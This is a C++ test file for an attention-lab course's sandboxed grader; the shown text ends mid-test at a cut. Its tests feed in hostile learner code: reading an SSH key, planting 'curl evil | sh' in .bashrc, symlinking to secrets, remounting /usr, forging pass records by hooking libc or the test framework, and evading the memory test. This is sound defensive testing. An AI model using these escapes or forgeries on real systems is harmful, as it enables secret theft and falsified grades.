TEST_CASE("in the sandbox, learner code cannot read the home folder, write outside its build folder, or include a file from home") {
  Home home;
  write(home.root / ".ssh" / "id_rsa", "SECRET-TOKEN-42\n");
  write(home.root / ".bashrc", "# the learner's own\n");
  const std::string secret = (home.root / ".ssh" / "id_rsa").string(), rc = (home.root / ".bashrc").string(),
                    outside = (home.root / "escaped.txt").string();
  write(home.learner("attention"),
        attention_with("  { std::ifstream f(\"" + secret + "\"); std::string s; std::getline(f, s); std::cout << \"read [\" << s << \"]\\n\"; }\n"
                       "  { std::ofstream(\"" + rc + "\", std::ios::app) << \"curl evil | sh\\n\"; }\n"
                       "  { std::ofstream(\"" + outside + "\") << \"out\\n\"; }\n",
                       "#include <fstream>\n#include <iostream>\n#include <string>\n"));
  const Result r = run(home, {"check", "attention"});
  INFO(r.out << r.err);
  CHECK(r.code == 0);  // the function is still right
  CHECK(contains(r.out, "read []"));
  CHECK_FALSE(contains(r.out + r.err, "SECRET-TOKEN-42"));
  CHECK(slurp(home.root / ".bashrc") == "# the learner's own\n");
  CHECK_FALSE(fs::exists(home.root / "escaped.txt"));
  CHECK_FALSE(contains(r.err, "warning"));

  // #include of a file from home: not found, and nothing of it in the compiler's messages.
  write(home.learner("softmax"), "#include \"../../../../.ssh/id_rsa\"\n" + solution_of("04-softmax", "softmax"));
  const Result inc = run(home, {"check", "softmax"});
  INFO(inc.out << inc.err);
  CHECK(inc.code == 1);
  CHECK(contains(inc.out, "does not compile"));
  CHECK_FALSE(contains(inc.out + inc.err, "SECRET-TOKEN-42"));
}

TEST_CASE("in the sandbox, a Unix socket or a FIFO outside the system folders is out of reach") {
  // The sixth adversarial pass: / was shown read-only, and neither connect() nor opening a FIFO for
  // writing needs a writable file system: learner code talked to a listener in /opt and wrote into a
  // FIFO there. Now only /usr, /etc and the like are shown. The socket and FIFO here sit in the source
  // tree, outside the home and temporary folders that were hidden before.
  Home home;
  const fs::path spot = fs::path(ATTNLAB_SOURCE_DIR) / "build-sandbox-reach" / std::to_string(::getpid());
  fs::create_directories(spot);
  const std::string fifo = (spot / "fifo").string(), sock = (spot / "sock").string();
  REQUIRE(::mkfifo(fifo.c_str(), 0666) == 0);
  const int listener = ::socket(AF_UNIX, SOCK_STREAM, 0);
  REQUIRE(listener >= 0);
  sockaddr_un addr{};
  addr.sun_family = AF_UNIX;
  std::snprintf(addr.sun_path, sizeof addr.sun_path, "%s", sock.c_str());
  REQUIRE(::bind(listener, reinterpret_cast<sockaddr*>(&addr), sizeof addr) == 0);
  REQUIRE(::listen(listener, 4) == 0);
  const int reader = ::open(fifo.c_str(), O_RDONLY | O_NONBLOCK);  // so that a writer would not block
  REQUIRE(reader >= 0);
  write(home.learner("attention"),
        attention_with("  { int s = ::socket(AF_UNIX, SOCK_STREAM, 0); sockaddr_un a{}; a.sun_family = AF_UNIX;\n"
                       "    std::snprintf(a.sun_path, sizeof a.sun_path, \"%s\", \"" + sock + "\");\n"
                       "    std::cout << \"connect \" << ::connect(s, reinterpret_cast<sockaddr*>(&a), sizeof a) << \"\\n\"; }\n"
                       "  { int f = ::open(\"" + fifo + "\", O_WRONLY | O_NONBLOCK); std::cout << \"fifo \" << (f >= 0) << \"\\n\";\n"
                       "    if (f >= 0) { [[maybe_unused]] auto n = ::write(f, \"escaped\", 7); } }\n",
                       "#include <cstdio>\n#include <fcntl.h>\n#include <iostream>\n#include <sys/socket.h>\n#include <sys/un.h>\n#include <unistd.h>\n"));
  const Result r = run(home, {"check", "attention"});
  INFO(r.out << r.err);
  CHECK(r.code == 0);
  CHECK(contains(r.out, "connect -1"));
  CHECK(contains(r.out, "fifo 0"));
  char buf[16];
  CHECK(::read(reader, buf, sizeof buf) <= 0);
  ::close(reader);
  ::close(listener);
  fs::remove_all(spot.parent_path());
}

TEST_CASE("in the sandbox, root's learner code cannot remount the system folders writable") {
  // The seventh adversarial pass: run by root, bubblewrap kept every capability inside, and a static
  // constructor remounted /usr read-write and created a file on the host. (Run by another user the
  // remount fails anyway; the test then shows nothing more.)
  Home home;
  const fs::path marker = fs::path("/usr/local") / ("attnlab-escape-" + std::to_string(::getpid()));
  // And the host kernel's settings: /proc/sys writable from inside (the eighth pass). Writing back the
  // value just read changes nothing, whether it succeeds or not.
  write(home.learner("attention"),
        attention_with("", "#include <cstdio>\n#include <cstring>\n#include <fcntl.h>\n#include <sys/mount.h>\n#include <unistd.h>\n"
                           "namespace { struct Escape { Escape() {\n"
                           "  int r = ::mount(nullptr, \"/usr\", nullptr, MS_REMOUNT | MS_BIND, nullptr);\n"
                           "  int f = ::open(\"" + marker.string() + "\", O_WRONLY | O_CREAT, 0644);\n"
                           "  char v[64] = {}; int s = ::open(\"/proc/sys/kernel/printk_ratelimit\", O_RDONLY);\n"
                           "  if (s >= 0) { [[maybe_unused]] auto n = ::read(s, v, 63); ::close(s); }\n"
                           "  int w = ::open(\"/proc/sys/kernel/printk_ratelimit\", O_WRONLY);\n"
                           "  if (w >= 0) { [[maybe_unused]] auto n = ::write(w, v, std::strlen(v)); ::close(w); }\n"
                           "  std::printf(\"remount %d create %d sysctl %d\\n\", r, f, w >= 0 ? 1 : 0); } } escape; }\n"));
  const Result r = run(home, {"check", "attention"});
  INFO(r.out << r.err);
  const bool escaped = fs::exists(marker);
  std::error_code ec;
  fs::remove(marker, ec);
  CHECK_FALSE(escaped);
  CHECK(contains(r.out, "create -1"));
  CHECK(contains(r.out, "sysctl 0"));
}

// The adversarial pass after the sandbox (issue 17): four ways around it, each failing before its fix.
TEST_CASE("learner code that replaces the grader's log by a link to a secret does not get it printed") {
  Home home;
  write(home.root / ".ssh" / "id_rsa", "SECRET-TOKEN-43\n");
  const fs::path run_dir = home.workspace() / ".build" / "attention";
  // The log is in the grader's working directory (this run's build folder).
  write(home.learner("attention"),
        attention_with("  static bool once = false;\n  if (!once) {\n    once = true;\n    ::unlink(\"run.log\");\n"
                       "    [[maybe_unused]] int rc = ::symlink(\"" + (home.root / ".ssh" / "id_rsa").string() + "\", \"run.log\");\n  }\n",
                       "#include <unistd.h>\n"));
  const Result r = run(home, {"check", "attention"});
  INFO(r.out << r.err);
  CHECK_FALSE(contains(r.out + r.err, "SECRET-TOKEN-43"));
  // (A link an earlier build of check left here is not this run's.)
  if (fs::is_symlink(fs::current_path() / "run.log")) fs::remove(fs::current_path() / "run.log");
  home.extra.push_back("ATTNLAB_SANDBOX=0");  // without the sandbox the link can point at the secret itself
  const Result plain = run(home, {"check", "attention"});
  INFO(plain.out << plain.err);
  CHECK_FALSE(contains(plain.out + plain.err, "SECRET-TOKEN-43"));
  // And without the sandbox the grader still runs in its build folder: the learner's relative
  // "run.log" was unlinked and replaced in the folder the user started attnlab from.
  CHECK_FALSE(fs::is_symlink(fs::current_path() / "run.log"));
  // The same with the status file, whose last "test" line is shown as the test that was running.
  write(home.root / ".ssh" / "id_rsa", "test\tSECRET-TOKEN-44\n");
  write(home.learner("attention"),
        attention_with("  { const char* p = std::getenv(\"ATTNLAB_GRADER_STATUS\"); ::unlink(p);\n"
                       "    [[maybe_unused]] int rc = ::symlink(\"" + (home.root / ".ssh" / "id_rsa").string() + "\", p); _exit(0); }\n",
                       "#include <cstdlib>\n#include <unistd.h>\n"));
  const Result status = run(home, {"check", "attention"});
  INFO(status.out << status.err);
  CHECK(status.code == 1);
  CHECK_FALSE(contains(status.out + status.err, "SECRET-TOKEN-44"));
}

TEST_CASE("a static destructor that rewrites the result record after the last test is not a pass") {
  Home home;
  write(home.learner("attention"),
        "#include <cstdlib>\n#include <fstream>\n#include <sstream>\n#include <string>\n#include <unistd.h>\n"
        "#include \"attnlab/exercise.hpp\"\n"
        "namespace { struct F { ~F() { const char* p = std::getenv(\"ATTNLAB_GRADER_STATUS\"); if (!p) _exit(0);\n"
        "  std::ifstream in(p); std::stringstream ss; ss << in.rdbuf(); std::string s = ss.str(), out, l;\n"
        "  std::istringstream ls(s); while (std::getline(ls, l)) { if (l.rfind(\"result\\t\", 0) == 0) l = l.substr(0, l.rfind('\\t')) + \"\\t0\"; out += l + \"\\n\"; }\n"
        "  std::ofstream(p, std::ios::trunc) << out; _exit(0); } } f; }\n"
        "namespace ex { Matrix attention(const Matrix& q, const Matrix& k, const Matrix& v) { return Matrix(q.rows, v.cols); } }\n");
  const Result r = run(home, {"check", "attention"});
  INFO(r.out << r.err);
  CHECK(r.code == 1);
  CHECK_FALSE(contains(r.out, "PASSED"));
}

TEST_CASE("the grader gets neither attnlab's environment nor its inherited file descriptors") {
  Home home;
  const fs::path outside = home.root / "outside.txt";
  // Inherited, as from a shell's `exec 37>file` (a high number: low ones are the grader's pipes).
  const int opened = ::open(outside.c_str(), O_WRONLY | O_CREAT | O_TRUNC, 0644);
  REQUIRE(opened >= 3);
  const int fd = ::dup2(opened, 37);
  ::close(opened);
  REQUIRE(fd == 37);
  home.extra.push_back("ATTNLAB_TEST_SECRET=hunter2");
  write(home.learner("attention"),
        attention_with("  { const char* s = std::getenv(\"ATTNLAB_TEST_SECRET\"); std::printf(\"env [%s]\\n\", s ? s : \"\");\n"
                       "    [[maybe_unused]] ssize_t w = ::write(" + std::to_string(fd) + ", \"LEAKED\\n\", 7); }\n",
                       "#include <cstdio>\n#include <cstdlib>\n#include <unistd.h>\n"));
  for (const char* sandbox : {"1", "0"}) {
    CAPTURE(sandbox);
    home.extra = {"ATTNLAB_TEST_SECRET=hunter2", std::string("ATTNLAB_SANDBOX=") + sandbox};
    const Result r = run(home, {"check", "attention"});
    INFO(r.out << r.err);
    CHECK(r.code == 0);
    CHECK(contains(r.out, "env []"));
    CHECK_FALSE(contains(r.out, "hunter2"));
  }
  ::close(fd);
  CHECK(slurp(outside).empty());
}

TEST_CASE("what learner code prints reaches the terminal with its control characters shown, not obeyed") {
  Home home;
  write(home.learner("attention"),
        attention_with("  std::printf(\"\\x1b]0;PWNED\\x07\\x1b[2J\\xc2\\x9b\" \"31m\\n\");\n", "#include <cstdio>\n"));
  const Result r = run(home, {"check", "attention"});
  INFO(r.out);
  CHECK(r.code == 0);
  CHECK(r.out.find('\x1b') == std::string::npos);
  CHECK(contains(r.out, "\\x1b]0;PWNED\\x07\\x1b[2J\\u009b31m"));
}

TEST_CASE("a build folder that is a symbolic link is refused, and nothing it points to is deleted") {
  Home home;
  write(home.learner("attention"), solution_of("05-weighted-sum", "attention"));
  const fs::path mine = home.root / "proj";
  write(mine / "run-2024" / "notes.txt", "mine\n");
  write(mine / "old-notes" / "a.txt", "mine too\n");
  fs::create_directories(home.workspace() / ".build");
  fs::create_directory_symlink(mine, home.workspace() / ".build" / "attention");
  const Result r = run(home, {"check", "attention"});
  INFO(r.out << r.err);
  CHECK(r.code == 2);
  CHECK(contains(r.err, "got a symbolic link"));
  CHECK(slurp(mine / "run-2024" / "notes.txt") == "mine\n");
  CHECK(slurp(mine / "old-notes" / "a.txt") == "mine too\n");
}

TEST_CASE("a learner file that defines a library function (write) to forge the record is refused, not passed") {
  // The second adversarial pass (Q1): a definition of write() in the learner's file replaced libc's in
  // the grader, received the result record with its token, set FAILED to 0 and passed a wrong answer.
  Home home;
  write(home.learner("attention"),
        "#include <string>\n#include <sys/syscall.h>\n#include <unistd.h>\n#include \"attnlab/exercise.hpp\"\n"
        "extern \"C\" ssize_t write(int fd, const void* b, size_t n) {\n"
        "  std::string s(static_cast<const char*>(b), n);\n"
        "  if (s.rfind(\"result\\t\", 0) == 0) {\n"
        "    s = s.substr(0, s.rfind('\\t', s.size() - 2)) + \"\\t0\\n\";\n"
        "    syscall(SYS_write, fd, s.data(), s.size());\n    syscall(SYS_exit_group, 0);\n  }\n"
        "  return syscall(SYS_write, fd, b, n);\n}\n"
        "namespace ex { Matrix attention(const Matrix& q, const Matrix& k, const Matrix& v) { return Matrix(q.rows, v.cols); } }\n");
  const Result r = run(home, {"check", "attention"});
  INFO(r.out << r.err);
  CHECK(r.code == 1);
  CHECK_FALSE(contains(r.out, "PASSED"));
  CHECK(contains(r.out, "may not: write"));
  // Helpers in namespace ex, an unnamed namespace or static are fine, and so is the standard library.
  write(home.learner("attention"),
        "#include <map>\n#include <string>\n" + solution_of("05-weighted-sum", "attention") +
        "namespace { int unnamed_helper() { return std::map<std::string, int>{{\"a\", 1}}.size(); } }\n"
        "static int static_helper() { return unnamed_helper(); }\n"
        "namespace ex { int helper_in_ex() { return static_helper(); } }\n");
  const Result ok = run(home, {"check", "attention"});
  INFO(ok.out << ok.err);
  CHECK(ok.code == 0);
}

TEST_CASE("the result channel cannot be read back from inside the grader") {
  // The second adversarial pass (Q3): the record went into a pipe, whose end learner code could open
  // again for reading through /proc/self/fd/4 and read the token from; it is a socket now.
  Home home;
  write(home.learner("attention"),
        attention_with("  { const int fd = ::open(\"/proc/self/fd/4\", O_RDONLY | O_NONBLOCK);\n"
                       "    char c; const ssize_t n = ::recv(4, &c, 1, MSG_DONTWAIT);\n"
                       "    std::printf(\"reopen %s, recv %s\\n\", fd < 0 ? \"refused\" : \"opened\", n > 0 ? \"data\" : \"nothing\"); }\n",
                       "#include <cstdio>\n#include <fcntl.h>\n#include <sys/socket.h>\n#include <unistd.h>\n"));
  const Result r = run(home, {"check", "attention"});
  INFO(r.out << r.err);
  CHECK(r.code == 0);
  CHECK(contains(r.out, "reopen refused, recv nothing"));
}

TEST_CASE("a weak specialisation of a standard library function the grader uses serves the learner's code alone") {
  // The third adversarial pass (R1): std::string::append, which the grader's main() uses to build the
  // result record, specialised in the learner's file, saw the record and forged a pass. The learner's
  // object now keeps only its exercise functions under their names; its other definitions are renamed.
  Home home;
  write(home.learner("scaled-scores"),
        "#include <cstdlib>\n#include <cstring>\n#include <string>\n#include <sys/syscall.h>\n#include <unistd.h>\n"
        "#include \"attnlab/exercise.hpp\"\n"
        "template <> __attribute__((used)) inline std::string& std::string::append(const char* s) {\n"
        "  if (s[0] == '\\n' && s[1] == 0 && rfind(\"result\\t\", 0) == 0) {\n"
        "    std::string r = substr(0, rfind('\\t')); r.append(\"\\t0\\n\", 3);\n"
        "    syscall(SYS_write, std::atoi(std::getenv(\"ATTNLAB_GRADER_RESULT_FD\")), r.data(), r.size());\n"
        "    syscall(SYS_exit_group, 0);\n  }\n  return append(s, std::strlen(s));\n}\n"
        "namespace ex { Matrix scaled_scores(const Matrix& q, const Matrix& k) { return Matrix(q.rows, k.rows); } }\n");
  const Result r = run(home, {"check", "scaled-scores"});
  INFO(r.out << r.err);
  CHECK(r.code == 1);
  CHECK_FALSE(contains(r.out, "PASSED"));

  // R2: a write() hidden behind 1,400 long names in ex, past the 256 KiB of nm's list that check read.
  std::string padded =
      "#include <string>\n#include <sys/syscall.h>\n#include <unistd.h>\n#include \"attnlab/exercise.hpp\"\n"
      "extern \"C\" ssize_t write(int, const void*, size_t n) { return static_cast<ssize_t>(n); }\n"
      "namespace ex {\n";
  for (int i = 0; i < 1400; ++i) padded += "int " + std::string(200, 'p') + std::to_string(i) + "() { return " + std::to_string(i) + "; }\n";
  padded += "Matrix scaled_scores(const Matrix& q, const Matrix& k) { return Matrix(q.rows, k.rows); }\n}\n";
  write(home.learner("scaled-scores"), padded);
  const Result big = run(home, {"check", "scaled-scores"});
  INFO(big.out << big.err);
  CHECK(big.code == 1);
  CHECK_FALSE(contains(big.out, "PASSED"));
  CHECK(contains(big.out, "over 256 KiB"));
}

namespace {
// The fourth adversarial pass's naive online softmax: the whole n × m score matrix, held where the
// memory test (which counts operator new) did not look, or with that test switched off.
std::string naive_online(const std::string& pre, const std::string& hook, const std::string& scores) {
  return "#include <cmath>\n#include <cstdlib>\n#include <vector>\n#include \"attnlab/exercise.hpp\"\n" + pre +
         "\nnamespace ex {\nMatrix attention_online(const Matrix& q, const Matrix& k, const Matrix& v, std::size_t block) {\n" +
         hook + "\n  const std::size_t n = q.rows, m = k.rows, d = q.cols;\n  " + scores +
         "\n  Matrix out(n, v.cols);\n  for (std::size_t i = 0; i < n; ++i) {\n    float mx = -INFINITY;\n"
         "    for (std::size_t j = 0; j < m; ++j) { float t = 0; for (std::size_t c = 0; c < d; ++c) t += q(i, c) * k(j, c);\n"
         "      s[i * m + j] = t / std::sqrt(float(d)); mx = std::fmax(mx, s[i * m + j]); }\n"
         "    float sum = 0; for (std::size_t j = 0; j < m; ++j) { s[i * m + j] = std::exp(s[i * m + j] - mx); sum += s[i * m + j]; }\n"
         "    for (std::size_t j = 0; j < m; ++j) for (std::size_t c = 0; c < v.cols; ++c) out(i, c) += s[i * m + j] / sum * v(j, c);\n"
         "  }\n  return out;\n}\n}\n";
}
}  // namespace

TEST_CASE("the grader's own code is out of a learner file's reach: a doctest listener, the memory test's switch, memory it cannot see") {
  Home home;
  // A doctest listener that set the failure count to 0 before the grader's reporter read it.
  write(home.learner("scaled-scores"),
        "#include <doctest/doctest.h>\n#include \"attnlab/exercise.hpp\"\nnamespace {\n"
        "struct Zero : doctest::IReporter {\n  Zero(const doctest::ContextOptions&) {}\n"
        "  void report_query(const doctest::QueryData&) override {}\n  void test_run_start() override {}\n"
        "  void test_run_end(const doctest::TestRunStats& s) override { const_cast<doctest::TestRunStats&>(s).numTestCasesFailed = 0; }\n"
        "  void test_case_start(const doctest::TestCaseData&) override {}\n  void test_case_reenter(const doctest::TestCaseData&) override {}\n"
        "  void test_case_end(const doctest::CurrentTestCaseStats&) override {}\n  void test_case_exception(const doctest::TestCaseException&) override {}\n"
        "  void subcase_start(const doctest::SubcaseSignature&) override {}\n  void subcase_end() override {}\n"
        "  void log_assert(const doctest::AssertData&) override {}\n  void log_message(const doctest::MessageData&) override {}\n"
        "  void test_case_skipped(const doctest::TestCaseData&) override {}\n};\n}\nDOCTEST_REGISTER_LISTENER(\"z\", 0, Zero);\n"
        "namespace ex { Matrix scaled_scores(const Matrix& q, const Matrix& k) { return Matrix(q.rows, k.rows); } }\n");
  Result r = run(home, {"check", "scaled-scores"});
  INFO(r.out << r.err);
  CHECK(r.code == 1);
  CHECK_FALSE(contains(r.out, "PASSED"));
  CHECK(contains(r.out, "it uses the grader's own code"));

  // The online-softmax memory test: switched off by a call of the grader's, or blind to malloc and to
  // an array on the stack. (With std::vector the same code fails as [online-full-matrix].)
  const std::string stop_pre = "namespace attnlab::grading { std::size_t stop_allocation_tracking(); }";
  const std::string stop_hook = "  attnlab::grading::stop_allocation_tracking();";
  for (const auto& [what, text] : std::vector<std::pair<std::string, std::string>>{
           {"stop tracking", naive_online(stop_pre, stop_hook, "std::vector<float> sv(n * m); float* s = sv.data();")},
           {"malloc", naive_online("", "", "float* s = (float*)std::malloc(n * m * sizeof(float));")},
           {"a stack array sized at run time", naive_online("", "", "float s[n * m];")},
           // The fifth pass: the largest single allocation was all the test measured.
           {"std::deque", naive_online("#include <deque>", "", "std::deque<float> s(n * m);")},
           {"std::pmr::vector", naive_online("#include <memory_resource>", "", "std::pmr::vector<float> s(n * m);")},
           {"a static array", naive_online("", "", "static float s[64 * 512];")},
           {"syscall(SYS_mmap)", naive_online("#include <sys/syscall.h>\n#include <unistd.h>", "",
                                              "float* s = (float*)syscall(SYS_mmap, nullptr, n * m * 4, 3, 0x22, -1, 0);")},
           // The sixth pass: the scores on the stack, in a buffer made before the call, or through
           // allocation routes the name list missed; and inputs changed by the memory test's call.
           {"a local array of the old test's size", naive_online("", "", "float s[64 * 512];")},
           {"a local array of the test's size", naive_online("", "", "float s[256 * 16384];")},
           {"a VLA with its error turned off", naive_online("#pragma GCC diagnostic ignored \"-Wvla\"", "", "float s[n * m];")},
           {"a std::vector made at static initialisation",
            naive_online("namespace { std::vector<float> g_scores(std::size_t{1} << 22); }", "", "float* s = g_scores.data();")},
           {"a function-local static vector", naive_online("", "", "static std::vector<float> sv; if (sv.size() < n * m) sv.resize(n * m); float* s = sv.data();")},
           {"malloc through .symver", naive_online("__asm__(\".symver real_malloc, malloc@GLIBC_2.2.5\"); extern \"C\" void* real_malloc(std::size_t);", "",
                                                   "float* s = (float*)real_malloc(n * m * sizeof(float));")},
           {"mmap through an asm label", naive_online("extern \"C\" void* xmmap(void*, std::size_t, int, int, int, long) __asm__(\"__mmap\");", "",
                                                      "float* s = (float*)xmmap(nullptr, n * m * 4, 3, 0x22, -1, 0);")},
           {"dlsym(\"malloc\")", naive_online("#include <dlfcn.h>", "",
                                             "auto mf = (void*(*)(std::size_t))dlsym(RTLD_DEFAULT, \"malloc\"); float* s = (float*)mf(n * m * sizeof(float));")},
           {"zeros after zeroing v", "#include \"attnlab/exercise.hpp\"\nnamespace ex {\nMatrix attention_online(const Matrix& q, const Matrix&, const Matrix& v, std::size_t) {\n"
                                     "  if (q.rows == 256) { Matrix& w = const_cast<Matrix&>(v); for (auto& x : w.data) x = 0; }\n"
                                     "  return Matrix(q.rows, v.cols);\n}\n}\n"},
           // The seventh: a buffer made in an earlier, untracked test; shared memory; a big-stack thread.
           {"a function-local static vector of the full size", naive_online("", "", "static std::vector<float> sv(std::size_t{1} << 22); float* s = sv.data();")},
           {"System V shared memory", naive_online("#include <sys/shm.h>", "",
                                                   "float* s = (float*)shmat(shmget(0, n * m * 4, 0600 | 01000), nullptr, 0);")},
           {"getcwd's buffer", naive_online("#include <unistd.h>", "", "float* s = (float*)getcwd(nullptr, n * m * 4 + 4096);")},
           {"std::vector (the control)", naive_online("", "", "std::vector<float> sv(n * m); float* s = sv.data();")}}) {
    CAPTURE(what);
    write(home.learner("online-softmax"), text);
    r = run(home, {"check", "online-softmax"});
    INFO(r.out << r.err);
    CHECK(r.code == 1);
    CHECK_FALSE(contains(r.out, "PASSED"));
  }
  // And the reference solution still passes the memory test (on its 2 MiB stack, within 4 MiB).
  write(home.learner("online-softmax"), solution_of("10-beyond", "online-softmax"));
  r = run(home, {"check", "online-softmax"});
  INFO(r.out << r.err);
  CHECK(r.code == 0);
}

TEST_CASE("a full disk is said to be one, not graded as a file that does not compile") {
  // The sixth adversarial pass: the workspace on a full 150 KiB tmpfs, the reference solution reported
  // as "Your file does not compile" with no message, and recorded as failing.
  if (::geteuid() != 0) {
    ATTNLAB_SKIP("mounting a small tmpfs needs root");
  }
  Home home;
  const fs::path ws = home.workspace();
  fs::create_directories(ws);
  if (::mount("tmpfs", ws.c_str(), "tmpfs", 0, "size=150k") != 0) {
    ATTNLAB_SKIP("cannot mount a tmpfs here (" << std::strerror(errno) << ")");
  }
  write(home.learner("attention"), solution_of("05-weighted-sum", "attention"));
  const Result r = run(home, {"check", "attention"});
  INFO(r.out << r.err);
  ::umount2(ws.c_str(), MNT_DETACH);
  CHECK(r.code == 2);
  CHECK(contains(r.err, "is full"));
  CHECK_FALSE(contains(r.out, "does not compile"));
  const bool recorded_failing = fs::exists(home.state()) && contains(slurp(home.state()), "failing");
  CHECK_FALSE(recorded_failing);
}

namespace {
std::string replaced(std::string s, const std::string& from, const std::string& to) {
  const auto at = s.find(from);
  REQUIRE_MESSAGE(at != std::string::npos, "not in the reference solution: " << from);
  return s.replace(at, from.size(), to);
}
}  // namespace

TEST_CASE("the eighth adversarial pass's wrong solutions fail: unstable softmax, a maximum that is not the row's, n > m") {
  Home home;
  const std::vector<std::tuple<std::string, std::string, std::string>> cases = {
      // exp without subtracting the row maximum, in the three graders that had no large-score case.
      {"multi-head", "07-multi-head", "std::exp(w(i, j) - mx)"},
      {"cross-attention", "08-cross-attention", "std::exp(w(i, j) - mx)"},
      {"attention-backward", "10-beyond", "std::exp(p(i, j) - mx)"}};
  for (const auto& [slug, lesson, from] : cases) {
    CAPTURE(slug);
    const std::string to = from.substr(0, from.find(" - mx")) + ")";
    write(home.learner(slug), replaced(solution_of(lesson, slug), from, to));
    const Result r = run(home, {"check", slug});
    INFO(r.out << r.err);
    CHECK(r.code == 1);
    CHECK(contains(r.out, "unstable-softmax"));
  }
  // softmax subtracting the first score instead of the maximum.
  write(home.learner("softmax"), replaced(solution_of("04-softmax", "softmax"), "std::exp(scores(i, j) - mx)", "std::exp(scores(i, j) - scores(i, 0))"));
  Result r = run(home, {"check", "softmax"});
  INFO(r.out << r.err);
  CHECK(r.code == 1);
  CHECK_FALSE(contains(r.out, "PASSED"));
  // causal weights computed over keys 0..i only: out of range when there are more queries than keys.
  write(home.learner("causal-mask"),
        "#include <cmath>\n#include <limits>\n#include \"attnlab/exercise.hpp\"\nnamespace ex {\n"
        "Matrix causal_attention_weights(const Matrix& s) {\n  Matrix w(s.rows, s.cols);\n"
        "  for (std::size_t i = 0; i < s.rows; ++i) {\n    float mx = -std::numeric_limits<float>::infinity();\n"
        "    for (std::size_t j = 0; j <= i; ++j) mx = std::max(mx, s(i, j));\n    double sum = 0;\n"
        "    for (std::size_t j = 0; j <= i; ++j) sum += std::exp(double(s(i, j)) - mx);\n"
        "    for (std::size_t j = 0; j <= i; ++j) w(i, j) = static_cast<float>(std::exp(double(s(i, j)) - mx) / sum);\n"
        "  }\n  return w;\n}\n}\n");
  r = run(home, {"check", "causal-mask"});
  INFO(r.out << r.err);
  CHECK(r.code == 1);
  CHECK_FALSE(contains(r.out, "PASSED"));
}

TEST_CASE("the ninth and tenth adversarial passes' wrong solutions fail: a maximum starting at 0 or kept from earlier rows, d_k = d_model / h, a transposed merge") {
  Home home;
  // A running maximum that starts at 0 instead of −inf: right whenever a row has a positive score.
  const std::string minf = "float mx = -std::numeric_limits<float>::infinity();";
  for (const auto& [slug, lesson] : std::vector<std::pair<std::string, std::string>>{
           {"attention", "05-weighted-sum"}, {"multi-head", "07-multi-head"}, {"cross-attention", "08-cross-attention"},
           {"attention-backward", "10-beyond"}}) {
    CAPTURE(slug);
    write(home.learner(slug), replaced(solution_of(lesson, slug), minf, "float mx = 0.0f;"));
    const Result r = run(home, {"check", slug});
    INFO(r.out << r.err);
    CHECK(r.code == 1);
    CHECK_FALSE(contains(r.out, "PASSED"));
  }
  // The tenth pass: a maximum kept from earlier rows (here across rows and calls, as a static; the
  // learner's version was declared above the row loop).
  write(home.learner("attention"), replaced(solution_of("05-weighted-sum", "attention"), "    " + minf, "    static " + minf));
  Result cm = run(home, {"check", "attention"});
  INFO(cm.out << cm.err);
  CHECK(cm.code == 1);
  CHECK_FALSE(contains(cm.out, "does not compile"));
  write(home.learner("causal-mask"), replaced(solution_of("06-masking", "causal-mask"), "    float mx = neg_inf;", "    static float mx = neg_inf;"));
  cm = run(home, {"check", "causal-mask"});
  INFO(cm.out << cm.err);
  CHECK(cm.code == 1);
  CHECK_FALSE(contains(cm.out, "does not compile"));
  // The eleventh pass: layer-norm's variance as E[x²] − mean² in float (cancellation far from zero).
  write(home.learner("layer-norm"), "// Reference solution: layer normalisation over each row (the features of one token).\n#include <cmath>\n#include <vector>\n\n#include \"attnlab/exercise.hpp\"\n\nnamespace ex {\n\nMatrix layer_norm(const Matrix& x, const std::vector<float>& gamma, const std::vector<float>& beta, float eps) {\n  const std::size_t d = x.cols;\n  Matrix y(x.rows, d);\n  for (std::size_t i = 0; i < x.rows; ++i) {\n    double mean = 0.0;\n    for (std::size_t j = 0; j < d; ++j) mean += x(i, j);\n    mean /= static_cast<double>(d);\n    float sq = 0.0f;\n    for (std::size_t j = 0; j < d; ++j) sq += x(i, j) * x(i, j);\n    float fm = static_cast<float>(mean);\n    double var = sq / static_cast<float>(d) - fm * fm;  // the biased variance, as in the usual LayerNorm\n    const double inv_std = 1.0 / std::sqrt(var + eps);  // eps inside the root\n    for (std::size_t j = 0; j < d; ++j)\n      y(i, j) = static_cast<float>(gamma[j] * (x(i, j) - mean) * inv_std + beta[j]);\n  }\n  return y;\n}\n\n}  // namespace ex\n");
  cm = run(home, {"check", "layer-norm"});
  INFO(cm.out << cm.err);
  CHECK(cm.code == 1);
  CHECK_FALSE(contains(cm.out, "does not compile"));
  // The twelfth pass: softmax taking a row whose maximum is below −1e9 for a fully hidden one.
  write(home.learner("softmax"), replaced(solution_of("04-softmax", "softmax"), "mx == -std::numeric_limits<float>::infinity()", "mx < -1e9f"));
  cm = run(home, {"check", "softmax"});
  INFO(cm.out << cm.err);
  CHECK(cm.code == 1);
  CHECK_FALSE(contains(cm.out, "does not compile"));
  // Cross-attention with d_k taken as d_model / h (the width of x), not from W_Q.
  write(home.learner("cross-attention"),
        replaced(solution_of("08-cross-attention", "cross-attention"), "const std::size_t d_k = w_q.cols / h,",
                 "const std::size_t d_k = x.cols / h,"));
  Result r = run(home, {"check", "cross-attention"});
  INFO(r.out << r.err);
  CHECK(r.code == 1);
  CHECK_FALSE(contains(r.out, "does not compile"));
  // merge_heads with rows and columns swapped: right for square heads only.
  write(home.learner("split-merge-heads"),
        replaced(solution_of("07-multi-head", "split-merge-heads"), "out(i, head * d + t) = heads[head](i, t);",
                 "out(i, head * d + t) = heads[head](t, i);"));
  r = run(home, {"check", "split-merge-heads"});
  INFO(r.out << r.err);
  CHECK(r.code == 1);
  CHECK_FALSE(contains(r.out, "does not compile"));
}

TEST_CASE("where bubblewrap cannot start, check still works and says in one line that it runs without a sandbox") {
  Home home;
  write(home.learner("attention"), solution_of("05-weighted-sum", "attention"));
  for (const std::string setting : {"ATTNLAB_BWRAP=/bin/false", "ATTNLAB_SANDBOX=0"}) {
    CAPTURE(setting);
    home.extra = {setting};
    const Result r = run(home, {"check", "attention"});
    INFO(r.out << r.err);
    CHECK(r.code == 0);
    CHECK(contains(r.err, "attnlab: warning: your code is compiled and graded without a sandbox, with your own rights: "));
    CHECK(std::count(r.err.begin(), r.err.end(), '\n') == 1);
  }
}

TEST_CASE("without bubblewrap, check says in one line what to install, and still checks") {
  // bwrap is hidden (/dev/null bound over it, in a private mount namespace of the child that runs
  // attnlab), as on a machine without the package.
  if (::geteuid() != 0) ATTNLAB_SKIP("hiding /usr/bin/bwrap in a private mount namespace needs root");
  Home home;
  write(home.learner("attention"), solution_of("05-weighted-sum", "attention"));
  home.extra = {"PATH=/usr/bin:/bin"};
